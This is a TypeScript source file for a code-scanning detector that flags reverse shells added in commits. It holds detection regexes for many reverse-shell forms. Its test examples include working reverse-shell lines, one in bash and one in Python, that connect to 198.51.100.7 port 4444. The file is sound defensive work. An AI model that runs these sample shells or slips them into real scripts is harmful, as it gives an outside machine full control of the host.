import { z } from "zod";
import { defineDetector, type Signal } from "../../model/detector.ts";
import { aChange, aCommit, aFile } from "../../model/examples.ts";
import { visible } from "../../text/lines.ts";
import { newCode, newText } from "../../text/new-lines.ts";
import { isIdle, placeOf } from "../../text/places.ts";

const DEVICE = ["/dev", "tcp"].join("/");

/** One line that connects a shell to somebody else's machine. */
const ONE_LINE =
  /\b(?:ba|z|k)?sh\s{1,3}-i\b[^\n]{0,40}(?:>&|&>|>)\s{0,3}\/dev\/(?:tcp|udp)\/|\bexec\s{1,3}\d{1,3}<>\s{0,2}\/dev\/(?:tcp|udp)\/|\b(?:nc|ncat|netcat)\s[^\n|;]{0,80}(?:\s-\w{0,4}e\s{0,3}|--exec\s{1,3}|--sh-exec\s{1,3})["']?(?:\/bin\/|\/usr\/bin\/)?(?:(?:ba|z)?sh|cmd(?:\.exe)?|powershell)\b|\bmkfifo\s[^\n]{0,80}\|\s{0,3}(?:\/bin\/)?(?:ba|z)?sh\s[^\n]{0,60}\|\s{0,3}(?:nc|ncat|openssl\s{1,3}s_client)\b|\bsocat\s[^\n]{0,80}exec:["']?(?:\/bin\/)?(?:ba)?sh\b|\bphp\s{1,3}-r\s[^\n]{0,40}fsockopen\(/i;
/** The same in other words: streams that are one connection, pipes with a name, the sockets of other languages. */
const OTHER_LINE =
  /\b(?:ba|z|k|da)?sh\b(?:\s{1,3}-\w{1,4}){0,2}\s{0,3}(?:>&|&>|>)\s{0,3}\/dev\/(?:tcp|udp)\/[\w.${}-]{1,120}\/[\w${}]{1,40}\s{1,3}(?:0[<>]&1|<&1)|\b(?:nc|ncat|netcat)\s{1,3}(?:-\w{1,4}\s{1,3}){0,3}-c\s{1,3}["']?(?:\/bin\/)?(?:ba|z)?sh\b|\bmk(?:fifo|nod)\s[^\n]{0,80}(?:\/bin\/)?(?:ba|z)?sh\s{1,3}-i\s[^\n]{0,60}\|\s{0,3}(?:nc|ncat|openssl\s{1,3}s_client)\b|\btelnet\s[^\n|]{0,80}\|\s{0,3}(?:\/bin\/)?(?:ba|z)?sh\b|\bperl\b[^\n]{0,60}\bSocket\b[^\n]{0,300}\bexec[\s({]{0,4}["']\/bin\/(?:ba)?sh|\bruby\b[^\n]{0,60}socket[^\n]{0,120}(?:spawn|exec)[^\n]{0,80}sh\b[^\n]{0,80}TCPSocket|\bztcp\s[^\n]{0,80}\bzsh\s{0,3}>&/i;
/** Parts that only together connect a shell: a socket, its descriptors put in place of the standard ones, a shell. */
const PARTS: readonly (readonly RegExp[])[] = [
  [/\bsocket\s{0,2}\(\s{0,2}(?:AF|PF)_INET/, /\bdup2\s{0,2}\(/, /\bexec[lv]\w{0,2}\s{0,2}\(\s{0,2}"\/bin\/(?:ba)?sh/],
  [
    /\bsocket\.socket\s{0,2}\(/,
    /\.connect\s{0,2}\(\s{0,2}\(/,
    /\bos\.dup2\s{0,2}\(|\bpty\.spawn\s{0,2}\(/,
    /["']\/bin\/(?:ba|z)?sh["']|pty\.spawn/,
  ],
  [
    /\bnet\.(?:Socket|connect|createConnection)\b/,
    /\bspawn\s{0,2}\(\s{0,2}["'](?:\/bin\/)?(?:(?:ba|z)?sh|cmd(?:\.exe)?|powershell(?:\.exe)?)["']/,
    /\.pipe\s{0,2}\(\s{0,2}\w{1,20}\.stdin\b|\.stdout\.pipe\s{0,2}\(/,
  ],
  [
    /\bnet\.Dial\s{0,2}\(\s{0,2}"(?:tcp|udp)/,
    /\bexec\.Command\s{0,2}\(\s{0,2}"(?:\/bin\/)?(?:(?:ba|z)?sh|cmd(?:\.exe)?|powershell)/,
    /\.Std(?:in|out)\s{0,3}=\s{0,3}\w{1,20}\b/,
  ],
  [/\bNet\.Sockets\.TCPClient\b/i, /\b(?:iex|Invoke-Expression)\b/i, /\bGetStream\s{0,2}\(/i],
  [
    /\bTCPSocket\.(?:new|open)\b/,
    /\bexec\s{1,3}["'](?:\/bin\/)?(?:ba)?sh|IO\.popen|\$stdin\.reopen/,
    /fileno|reopen|popen/,
  ],
  [/\bfsockopen\s{0,2}\(/, /\b(?:proc_open|shell_exec|exec)\s{0,2}\(/, /["']\/bin\/(?:ba)?sh/],
];

export default defineDetector({
  id: "reverse-shell",
  title: "A shell is handed to another machine",
  family: "content",
  axis: "attack",
  group: "payload",
  stage: "stable",
  since: "0.1.0",
  rationale:
    "A shell whose input and output are a connection to another machine gives that machine everything its user can do. No program needs one.",
  falsePositives: [
    "Security tools and lessons that carry such samples outside a test or documentation folder",
    "Remote consoles",
  ],
  remedy: "Cut the machines that ran it off, then look at what was done through it.",
  references: ["ATT&CK T1059", "ATT&CK T1571", "CWE-506"],
  needs: ["diff"],
  options: z.strictObject({}),
  examples: {
    flags: [
      {
        name: "one line of a shell",
        commit: aChange("scripts/ci.sh", `bash -i >& ${DEVICE}/198.51.100.7/4444 0>&1`),
      },
      {
        name: "a socket in place of the standard streams",
        commit: aCommit({
          files: [
            aFile({
              path: "app/a.py",
              added:
                's = socket.socket()\ns.connect(("198.51.100.7", 4444))\nos.dup2(s.fileno(), 0)\nsubprocess.call(["/bin/sh", "-i"])',
              at: 3,
            }),
          ],
        }),
      },
    ],
    passes: [
      {
        name: "a port that is only probed",
        commit: aChange("scripts/wait.sh", `until (echo > ${DEVICE}/db/5432) 2>/dev/null; do sleep 1; done`),
      },
      {
        name: "a lesson",
        commit: aChange("docs/shells.md", `bash -i >& ${DEVICE}/198.51.100.7/4444 0>&1`),
      },
    ],
  },
  detect(commit) {
    return commit.files.flatMap((file): Signal[] => {
      const place = placeOf(file.path);
      if (isIdle(place)) return [];
      const text = newText(commit, file);
      if (
        !/\/dev\/(?:tcp|udp)|\b(?:nc|ncat|netcat)\b|socat|[Ss]ocket|net\.|fsockopen|TCPClient|s_client|telnet|ztcp/.test(
          text,
        )
      )
        return [];
      const test = place === "test";
      const line = newCode(commit, file).find((one) => {
        const shown = visible(one);
        return ONE_LINE.test(shown) || OTHER_LINE.test(shown);
      });
      const base = { path: file.path, confidence: test ? 0.6 : 1 };
      if (line)
        return [
          {
            ...base,
            strength: test ? "medium" : "strong",
            because: "the line connects a shell to another machine",
            line: line.number,
          },
        ];
      const parts = PARTS.find((one) => one.every((part) => part.test(text)));
      const first = parts && newCode(commit, file).find((one) => parts[0]?.test(visible(one)));
      return parts
        ? [
            {
              ...base,
              strength: test ? "weak" : "strong",
              confidence: test ? 0.5 : 0.9,
              because: "a connection takes the place of a shell's input and output",
              line: first?.number ?? 1,
            },
          ]
        : [];
    });
  },
});
